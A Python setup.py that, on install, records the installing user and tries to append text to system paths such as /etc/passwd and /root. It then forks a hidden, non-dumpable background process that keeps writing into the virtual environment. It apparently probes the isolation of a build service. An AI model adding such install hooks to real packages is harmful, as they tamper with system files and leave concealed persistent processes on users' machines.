"""Writes down as whom, and with which rights, it is being installed; and leaves a process behind."""

from __future__ import annotations

import ctypes
import json
import os
import time
from pathlib import Path

from setuptools import setup

PR_SET_DUMPABLE = 4


def try_to_write(path: str) -> str:
    """Tell what comes of writing to a path."""
    try:
        with Path(path).open("a", encoding="utf-8") as file:
            file.write("written by an installation\n")
    except OSError as error:
        return type(error).__name__
    return "written"


def stay_behind() -> None:
    """Go on writing into the environment, hidden as well as a process can be."""
    if os.fork():
        return
    os.setsid()
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 0)
    nothing = os.open(os.devnull, os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(nothing, descriptor)
    while True:
        try_to_write(f"{os.environ['VIRTUAL_ENV']}/intruder")
        time.sleep(0.05)


findings = {
    "uid": os.geteuid(),
    "home": os.environ["HOME"],
    "writing": {
        path: try_to_write(path)
        for path in (
            "/var/www/witness/builds/one/requirements.txt",
            "/var/www/witness/environments/x",
            "/var/www/x",
            "/etc/passwd",
            "/root/x",
        )
    },
}
Path(__file__).with_name("witness").joinpath("findings.json").write_text(json.dumps(findings), encoding="utf-8")
stay_behind()
setup(name="witness", version="1.0", packages=["witness"], package_data={"witness": ["findings.json"]})
